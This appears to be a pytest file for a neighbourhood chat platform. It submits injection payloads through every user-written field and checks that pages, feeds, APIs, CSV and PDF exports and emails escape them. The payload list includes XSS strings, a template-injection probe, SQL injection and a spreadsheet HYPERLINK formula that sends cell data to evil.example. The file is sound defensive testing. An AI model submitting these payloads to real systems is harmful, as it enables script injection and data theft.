"""Script, markup and formula injection: a corpus of payloads submitted through every user-written
field that exists (room text, tags, display names, questions, answers, private replies,
announcements, poll prompts and options, staff names and titles, tenant name, themes,
neighbourhoods, escalation notes, the sign-in form) through the real forms, then every surface
that shows them is checked in its own encoding: pages, the big screen and the embed (HTML
escaped), feeds (well-formed XML, iCalendar TEXT), the API and staff JSON (raw by design, valid
JSON), CSV exports (audit log, consultation report, transcript: no cell a spreadsheet would run),
transcript HTML, text and PDF, the consultation report PDF, and every queued email (HTML part
escaped). SHOWN_ON names the fields each surface must show, so no check passes vacuously. The
live JSON events carry the raw text by design; the browser code must insert it with textContent
(checked by scanning the static JavaScript, so new scripts are covered too), and templates must
not opt out of escaping or carry inline script (CSP forbids it)."""
from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from pathlib import Path
from xml.etree import ElementTree

import pytest
from markupsafe import escape

from services.api import tokens as api_tokens
from tenants.csv_safe import TRIGGERS
from services.engagement.reasons import REJECTION_REASONS
from services.reminders import links
from tenants import auth
from tenants.db import tenant_scope
from tests.support.documents import mail_parts, readable
from workers.reminders import dispatch_due_in_tenant
from services.transcripts.build import build_and_store
from tests.support.console import console, enable_totp, sign_in

ROOT = Path(__file__).resolve().parents[3]
CORPUS = [
    '<script>alert("x1")</script>',
    '"><img src=x onerror=alert(2)>',
    "'><svg/onload=alert(3)>",
    "</textarea><script>alert(4)</script>",
    '<a href="javascript:alert(5)">x</a>',
    "{{ 'SSTI' * 3 }}{% raw %}",
    "${7*7}<iframe src=//evil.example>",
    "'; DROP TABLE questions; --",
    "&lt;b&gt;already escaped&amp;",
    "\u202e<b>rtl</b>\u200b",
    '=HYPERLINK("https://evil.example?"&A1,"x")',
]
FIELDS = ["tenant", "staff", "stafftitle", "title", "description", "tag", "area", "welcome", "signposting", "closing",
          "name", "q1", "q2", "q3", "answer", "reply", "announcement", "prompt", "opt1", "opt2", "email", "theme",
          "neighbourhood", "note"]


def marked(payload: str, field: str) -> str:
    if field == "name":  # display names: 2-40 characters, no format characters such as bidi overrides
        return re.sub("[\u200b-\u200f\u202a-\u202e]", "", payload)[:34] + "#name"
    if field == "tag":   # tags: a comma-separated list of up to 40 characters each
        return payload.replace(",", " ")[:36] + "#tag"
    return f"{payload}#{field}"


@dataclass
class Surface:
    name: str
    kind: str      # html, xml, ics, csv, json, pdf or text: how a user-written field must be encoded there
    text: str


@dataclass
class Chat:
    """The tenant, its admin's console client, a resident's client and the chat they share."""
    app: object
    tenant: object
    staff: object     # the admin's test client
    resident: object
    room_id: str
    mark: object      # field -> this payload marked with the field's name

    @property
    def base(self) -> str:
        return f"/t/{self.tenant.slug}"

    @property
    def room(self) -> str:
        return f"{self.base}/rooms/{self.room_id}"

    def command(self, name, **form):
        response = self.staff.post(f"{self.base}/console/rooms/{self.room_id}/commands/{name}", data=form)
        assert response.status_code == 302, response.get_data(as_text=True)
        return response

    def post(self, path: str, **form):
        response = self.staff.post(f"{self.base}/console/{path}", data=form)
        assert response.status_code == 302, re.findall(r'field-error[^>]*>(.*?)</p>', response.get_data(as_text=True))
        return response

    def question_ids(self) -> dict[str, str]:
        with tenant_scope(self.tenant.id) as tx:
            return {r["body"]: str(r["id"]) for r in tx.all("select id, body from questions")}

    def one_id(self, query: str) -> str:
        with tenant_scope(self.tenant.id) as tx:
            return str(tx.value(query))


def open_chat(app, client, make_tenant, make_staff, m) -> Chat:
    """A live chat: every field written by staff and a resident through the real forms."""
    tenant = make_tenant(name=m("tenant"))
    admin = make_staff(tenant, "admin", display_name=m("staff"), title=m("stafftitle"))
    signed_in = sign_in(client, tenant, admin.email, secret=enable_totp(tenant, admin))   # admins use TOTP
    assert signed_in.status_code == 302 and signed_in.location.endswith(console(tenant)), signed_in.location
    created = client.post(console(tenant, "rooms/new"), data={
        "title": m("title"), "description": m("description"), "tags": m("tag"), "area": m("area"),
        "welcome_text": m("welcome"), "signposting_text": m("signposting"), "closing_text": m("closing"),
        "starts_at": "2031-06-01T19:00", "ends_at": "2031-06-01T20:00", "slow_mode_seconds": "0",
        "mode": "moderated", "votes_enabled": "on"})
    assert created.status_code == 302, created.get_data(as_text=True)
    room_id = re.search(r"/rooms/([0-9a-f-]{36})/", created.headers["Location"]).group(1)
    chat = Chat(app, tenant, client, app.test_client(), room_id, m)
    chat.command("room_state", state="scheduled")
    chat.command("room_state", state="live")
    joined = chat.resident.post(f"{chat.room}/join", data={"display_name": m("name")}, follow_redirects=True)
    assert "flash-error" not in joined.get_data(as_text=True)
    for field in ("q1", "q2", "q3"):
        asked = chat.resident.post(f"{chat.room}/questions", data={"body": m(field)}, follow_redirects=True)
        assert "waiting for a moderator" in asked.get_data(as_text=True), re.findall(r"flash-error[^>]*>([^<]*)",
                                                                                 asked.get_data(as_text=True))
    ids = chat.question_ids()
    assert len(ids) == 3, "a question was refused"
    chat.command("approve", question_id=ids[m("q1")], body="")
    chat.command("answer", question_id=ids[m("q1")], body=m("answer"))
    chat.command("reply", question_id=ids[m("q2")], body=m("reply"))
    chat.command("announce", body=m("announcement"))
    chat.command("poll_open", prompt=m("prompt"), options=f"{m('opt1')}\n{m('opt2')}", kind="single",
                 results_visibility="live")
    return chat


def engage(chat: Chat) -> None:
    """Themes on the question and poll, a neighbourhood, a safeguarding escalation with a note (mailed)."""
    m, ids = chat.mark, chat.question_ids()
    chat.post("themes", name=m("theme"), kind="priority")
    theme_id = chat.one_id("select id from themes")
    chat.command("tag", question_id=ids[m("q1")], theme_ids=theme_id)
    chat.command("tag_poll", poll_id=chat.one_id("select id from polls"), theme_ids=theme_id)
    chat.post("neighbourhoods", name=m("neighbourhood"))
    chat.post(f"neighbourhoods/{chat.one_id('select id from neighbourhoods')}/rooms", room_id=chat.room_id)
    chat.post("settings/engagement", escalation_email="contact.centre@force.police.uk",
              **{f"enabled_{code}": "on" for code in REJECTION_REASONS})
    chat.command("escalate", question_id=ids[m("q3")], note=m("note"))


def register_for_reminders(chat: Chat) -> None:
    """A resident registers and confirms, asks for their data, and the reminders go out."""
    registered = chat.resident.post(f"{chat.room}/register", data={"email": "resident@example.org"})
    assert registered.status_code == 302
    with tenant_scope(chat.tenant.id) as tx:
        registration_id = tx.value("select id from registrations")
    token = links.make_token(chat.tenant.id, registration_id, "confirm")
    assert chat.resident.post(f"{chat.base}/registrations/confirm/{token}").status_code == 200
    assert chat.resident.post(f"{chat.base}/your-data", data={"email": "resident@example.org",
                                                             "kind": "access"}).status_code == 302
    starts = datetime(2031, 6, 1, 18, 0, tzinfo=timezone.utc)   # 19:00 in London
    for now in (starts - timedelta(minutes=1), starts + timedelta(minutes=1)):   # "starts soon", "we're live"
        dispatch_due_in_tenant(chat.tenant.id, now)


def close_with_transcript(chat: Chat) -> None:
    chat.command("room_state", state="closed")
    assert build_and_store(chat.tenant.id, chat.room_id) == "stored"
    dispatch_due_in_tenant(chat.tenant.id, datetime.now(timezone.utc) + timedelta(minutes=1))   # "transcript ready"


def pages(chat: Chat, kinds: dict[str, tuple[str, str]], client=None) -> list[Surface]:
    """GET each path (on the tenant's site) as `client` (the admin by default)."""
    client = client or chat.staff
    out = []
    for name, (kind, path) in kinds.items():
        response = client.get(chat.base + path)
        assert response.status_code == 200, f"{name}: {response.status_code}"
        out.append(Surface(name, kind, readable(response.get_data())))
    return out


def live_surfaces(chat: Chat) -> list[Surface]:
    anyone = chat.app.test_client()
    room = f"/rooms/{chat.room_id}"
    public = pages(chat, {
        "home": ("html", "/"), "room": ("html", room), "big screen": ("html", f"{room}/screen"),
        "embed": ("html", f"{room}/embed"), "atom feed": ("xml", "/feeds/chats.atom"),
        "rss feed": ("xml", "/feeds/chats.rss"), "calendar feed": ("ics", "/feeds/chats.ics"),
        "room calendar": ("ics", f"{room}/calendar.ics"), "neighbourhoods": ("html", "/neighbourhoods"),
        "API rooms": ("json", "/api/v1/rooms"), "API room": ("json", f"/api/v1/rooms/{chat.room_id}"),
        "API questions": ("json", f"/api/v1/rooms/{chat.room_id}/questions")}, anyone_with_api_token(chat, anyone))
    staff = pages(chat, {
        "dashboard": ("html", "/console/"), "edit": ("html", f"/console{room}/edit"),
        "moderate": ("html", f"/console{room}/moderate"), "host": ("html", f"/console{room}/host"),
        "themes": ("html", "/console/themes"), "neighbourhoods (console)": ("html", "/console/neighbourhoods"),
        "escalations": ("html", "/console/escalations"), "audit log": ("html", "/console/audit"),
        "audit log CSV": ("csv", "/console/audit.csv")})
    author = pages(chat, {"room as the author": ("html", room)}, chat.resident)
    sign_in_error = anyone.post(f"{chat.base}/console/sign-in", data={"email": chat.mark("email"), "password": "x"})
    return public + staff + author + [Surface("sign-in error", "html", sign_in_error.get_data(as_text=True))]


def anyone_with_api_token(chat: Chat, client):
    """`client`, sending a read token of the tenant's with every request (for the API; pages ignore it)."""
    with tenant_scope(chat.tenant.id) as tx:
        _, token = api_tokens.create_token(tx, current_admin(tx), "Corpus reader", ["read"])
    client.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {token}"
    return client


def current_admin(tx):
    return auth.staff_by_id(tx, tx.value("select id from staff_users where role = 'admin' limit 1"))


def closed_surfaces(chat: Chat) -> list[Surface]:
    room = f"/rooms/{chat.room_id}"
    return pages(chat, {
        "transcript": ("html", f"{room}/transcript"), "transcript text": ("text", f"{room}/transcript.txt"),
        "transcript PDF": ("pdf", f"{room}/transcript.pdf"),
        "transcript CSV (staff)": ("csv", f"/console{room}/transcript.csv"),
        "transcript JSON (staff)": ("json", f"/console{room}/transcript.json"),
        # the report covers closed chats
        "consultation report": ("html", "/console/reports/themes"),
        "consultation report CSV": ("csv", "/console/reports/themes.csv"),
        "consultation report PDF": ("pdf", "/console/reports/themes.pdf")})


def mail_surfaces(chat: Chat) -> list[Surface]:
    with tenant_scope(chat.tenant.id) as tx:
        queued = tx.all("select kind, message from outbound_mail order by created_at")
    kinds = {"text/html": "html", "text/plain": "text"}
    return [Surface(f"{row['kind']} mail ({content_type})", kinds[content_type], text)
            for row in queued for content_type, text in mail_parts(bytes(row["message"])).items()]


SHOWN_ON = {  # surface -> the user-written fields that must reach it (so the check there is not vacuous)
    "big screen": ["title", "q1", "answer"], "embed": ["title", "q1"], "atom feed": ["title", "tenant"],
    "rss feed": ["title", "tenant"], "calendar feed": ["title"], "room calendar": ["title"],
    "neighbourhoods": ["neighbourhood"], "API rooms": ["title", "description"], "API room": ["title"],
    "API questions": ["q1", "answer"], "themes": ["theme"], "escalations": ["q3", "note"],
    "audit log CSV": ["theme"], "consultation report": ["theme", "q1"], "consultation report CSV": ["theme", "q1"],
    "consultation report PDF": ["theme"], "transcript": ["title", "q1", "answer", "announcement", "prompt"],
    "transcript text": ["title", "q1", "answer"], "transcript PDF": ["title"], "transcript CSV (staff)": ["q1"],
    "transcript JSON (staff)": ["q1"], "escalation mail (text/html)": ["q3", "note", "title"],
    "escalation mail (text/plain)": ["q3", "note"], "confirm mail (text/html)": ["title", "tenant"],
    "reminder mail (text/html)": ["title"], "live mail (text/html)": ["title"],
    "transcript mail (text/html)": ["title"], "data_request mail (text/html)": ["tenant"],
}


@pytest.mark.parametrize("payload", CORPUS, ids=range(len(CORPUS)))
def test_payload_is_escaped_on_every_surface(app, client, make_tenant, make_staff, payload):
    chat = open_chat(app, client, make_tenant, make_staff, lambda field: marked(payload, field))
    engage(chat)
    register_for_reminders(chat)
    surfaces = live_surfaces(chat)
    close_with_transcript(chat)
    surfaces += closed_surfaces(chat) + mail_surfaces(chat)
    by_name = {s.name: s for s in surfaces}
    assert set(SHOWN_ON) <= set(by_name), f"surfaces not reached: {set(SHOWN_ON) - set(by_name)}"
    for surface in surfaces:
        check_surface(surface, payload)
    for name, fields_there in SHOWN_ON.items():
        missing = [f for f in fields_there if not shown(by_name[name], chat.mark(f))]
        assert not missing, f"{name}: never shows {missing} (so not proven encoded there)"
    html = "\n".join(s.text for s in surfaces if s.kind == "html")
    missing = [f for f in FIELDS if str(escape(chat.mark(f))) not in html]
    assert not missing, f"never shown (so not proven escaped): {missing}"
    # markup inside translated sentences: real elements, the name inside them escaped
    assert '<time datetime="2031-06-01T18:00:00+00:00">' in by_name["room"].text
    assert f"<strong>{escape(chat.mark('name'))}</strong>" in by_name["room as the author"].text


def check_surface(surface: Surface, payload: str) -> None:
    """Markup in the payload stays text: escaped in HTML and XML, a plain cell in CSV, never evaluated."""
    where = f"{surface.name} ({surface.kind})"
    assert "SSTISSTISSTI" not in surface.text, f"template code ran on {where}"
    if surface.kind == "html":
        assert escape(payload) == payload or payload not in surface.text, f"raw payload on {where}"
        assert 'href="javascript:' not in surface.text, where
    if surface.kind == "xml":
        ElementTree.fromstring(surface.text.encode())   # still well-formed
        assert not set("<&") & set(payload) or payload not in surface.text, f"raw payload in {where}"
    if surface.kind == "csv":
        cells = [c for row in csv.reader(io.StringIO(surface.text)) for c in row]
        assert not [c for c in cells if "#" in c and c.startswith(TRIGGERS)], f"a formula could run from {where}"
    if surface.kind == "json":
        json.loads(surface.text)


def shown(surface: Surface, value: str) -> bool:
    """Is `value` on the surface, encoded as that format must encode it?"""
    if surface.kind == "html":
        return str(escape(value)) in surface.text
    if surface.kind == "xml":
        return value in xml_text(surface.text)
    if surface.kind == "ics":
        return ics_escape(value) in surface.text.replace("\r\n ", "")
    if surface.kind == "json":
        return value in json_strings(json.loads(surface.text))
    if surface.kind == "csv":   # as text, or inside a cell of JSON (the audit log's details)
        forms = (value, json.dumps(value, ensure_ascii=False)[1:-1])
        return any(f in c for row in csv.reader(io.StringIO(surface.text)) for c in row for f in forms)
    if surface.kind == "pdf":   # right-to-left override: the page shows (and extraction gives) it reversed
        forms = (squeeze(value), squeeze(value)[::-1]) if "\u202e" in value else (squeeze(value),)
        return any(f in squeeze(surface.text) for f in forms)
    return value in surface.text


def xml_text(document: str) -> str:
    root = ElementTree.fromstring(document.encode())
    return "\n".join([*root.itertext(), *(v for e in root.iter() for v in e.attrib.values())])


def json_strings(value) -> str:
    if isinstance(value, dict):
        return "\n".join(json_strings(v) for v in value.values())
    if isinstance(value, list):
        return "\n".join(json_strings(v) for v in value)
    return value if isinstance(value, str) else ""


def ics_escape(value: str) -> str:
    """RFC 5545 TEXT: backslash, semicolon, comma and newline are escaped."""
    return value.replace("\\", "\\\\").replace(";", "\\;").replace(",", "\\,").replace("\n", "\\n")


def squeeze(text: str) -> str:
    """PDF text extraction breaks lines and drops invisible characters: compare without them."""
    return re.sub(r"[\s\u200b-\u200f\u202a-\u202e\ufffe\uffff]", "", text)


def _static_scripts() -> list[Path]:
    return sorted(p for p in (ROOT / "services").rglob("*.js") if "node_modules" not in p.parts)


SINKS = re.compile(r"\.(innerHTML|outerHTML)\s*\+?=\s*(?P<rhs>[^;]+)|insertAdjacentHTML\s*\(|document\.write\s*\("
                   r"|\beval\s*\(|new\s+Function\s*\(|setAttribute\(\s*['\"]on|\.on\w+\s*=\s*['\"`]"
                   r"|\.(href|src|action)\s*=(?!=)(?!\s*['\"][^'\"$]*['\"]\s*;)")
CONSTANT = re.compile(r"""^\s*('[^']*'|"[^"]*")\s*$""")


def test_browser_code_inserts_text_with_textContent_only():
    scripts = _static_scripts()
    assert len(scripts) >= 4
    offences = []
    for path in scripts:
        for n, line in enumerate(path.read_text().splitlines(), 1):
            for found in SINKS.finditer(line):
                rhs = found.groupdict().get("rhs")
                if rhs is not None and CONSTANT.match(rhs):
                    continue  # a fixed string of markup, no data in it
                offences.append(f"{path.relative_to(ROOT)}:{n}: {line.strip()}")
    assert not offences, "user data may reach an HTML sink; build nodes and use textContent:\n" + "\n".join(offences)


MAIL_TEMPLATES = ROOT / "services" / "templates" / "mail"
TEMPLATE_RULES = [(r"\|\s*safe\b", "|safe"), (r"autoescape\s+false", "autoescape false"), (r"Markup\(", "Markup()"),
                  (r"<script(?![^>]*\bsrc=)[^>]*>", "inline <script>"), (r"\son[a-z]+\s*=", "inline event handler"),
                  (r"\sstyle\s*=", "inline style")]


def template_rules(path: Path) -> list[tuple[str, str]]:
    """HTML email must carry inline styles: mail clients drop <style> and external sheets, and a
    page's CSP does not apply to mail. Escaping and script rules still hold for mail."""
    if MAIL_TEMPLATES in path.parents:
        return [(pattern, why) for pattern, why in TEMPLATE_RULES if why != "inline style"]
    return TEMPLATE_RULES


def test_templates_never_opt_out_of_escaping_or_inline_script():
    templates = sorted((ROOT / "services").rglob("templates/**/*.html"))
    assert templates and any(MAIL_TEMPLATES in p.parents for p in templates)
    offences = []
    for path in templates:
        text = path.read_text()
        for pattern, why in template_rules(path):
            offences += [f"{path.relative_to(ROOT)}: {why}" for _ in re.finditer(pattern, text)]
    assert not offences, "\n".join(offences)


def test_a_nul_or_control_character_in_a_form_is_a_clear_refusal(app, make_world):
    world = make_world()
    resident = app.test_client()
    room = f"/t/{world.tenant.slug}/rooms/{world.room['id']}"
    assert resident.post(f"{room}/join", data={"display_name": "Sam"}).status_code == 302
    response = resident.post(f"{room}/questions", data={"body": "bad\x00byte"}, follow_redirects=True)
    assert response.status_code == 200 and "characters we cannot accept" in response.get_data(as_text=True)
    with tenant_scope(world.tenant.id) as tx:
        assert tx.value("select count(*) from questions") == 0
